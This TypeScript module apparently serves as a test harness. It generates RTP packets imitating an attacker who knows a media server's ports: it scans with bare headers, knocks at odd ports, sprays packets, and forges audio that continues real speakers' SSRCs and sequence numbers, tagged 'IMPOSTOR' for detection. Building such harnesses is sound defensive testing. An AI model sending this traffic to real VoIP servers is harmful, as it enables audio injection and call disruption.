// What an impostor sends who knows a server's media ports and holds no key: the shapes seen in the wild, made by hand.
// Packets only; the socket is impostor.ts's.
const RTP_BYTES = 12;
const PCMU = 0;
const PAYLOAD_BYTES = 160;
/** What every packet of the impostor that has a payload says, so that whoever hears it knows whose it is. */
const MARK = Buffer.from('IMPOSTOR');

/** A speaker whose stream the impostor continues. */
export interface Voice {
  readonly ssrc: number;
  /** The last sequence number known of it. */
  readonly sequence: number;
}

/** One round: what goes to every even port, and to every odd one. */
export interface Shots {
  readonly even: readonly Uint8Array[];
  readonly odd: readonly Uint8Array[];
}

/** True for media that the impostor made. */
export function isMarked(packet: Uint8Array): boolean {
  return (
    packet.length >= RTP_BYTES + MARK.length &&
    MARK.equals(packet.subarray(RTP_BYTES, RTP_BYTES + MARK.length))
  );
}

/** A packet of PCMU, 20 ms long, with the payload type that was negotiated and the impostor's mark for speech. */
export function markedPacket(ssrc: number, sequence: number, timestamp: number): Uint8Array {
  const packet = header(PCMU, sequence, timestamp, ssrc, PAYLOAD_BYTES);
  packet.set(Buffer.alloc(PAYLOAD_BYTES, MARK), RTP_BYTES);
  return packet;
}

/**
 * The rounds of an attack, without end. Each scans with bare headers, 4 in a row, then knocks at the odd ports with 4
 * bytes that claim to be media, and then sprays one identical packet; with `voices`, the right SSRC and the next
 * sequence numbers of each follow.
 */
export function* attack(ssrc: number, voices: readonly Voice[] = []): Generator<Shots> {
  const stub = Uint8Array.of(0x80, 0, 0, 0);
  const same = markedPacket(ssrc, 1, 160);
  for (let round = 0; ; round++) {
    for (let sequence = 0; sequence < 4; sequence++) {
      yield { even: [header(0x80 | PCMU, sequence, 0, 0, 0)], odd: sequence === 0 ? [stub] : [] };
    }
    for (let repeat = 0; repeat < 4; repeat++) {
      const step = round * 4 + repeat + 1;
      const forged = voices.map((voice) =>
        markedPacket(voice.ssrc, voice.sequence + step, step * PAYLOAD_BYTES),
      );
      yield { even: [same, ...forged], odd: [] };
    }
  }
}

function header(
  second: number,
  sequence: number,
  timestamp: number,
  ssrc: number,
  payload: number,
): Uint8Array {
  const packet = new Uint8Array(RTP_BYTES + payload);
  const view = new DataView(packet.buffer);
  view.setUint8(0, 0x80);
  view.setUint8(1, second);
  view.setUint16(2, sequence);
  view.setUint32(4, timestamp);
  view.setUint32(8, ssrc);
  return packet;
}
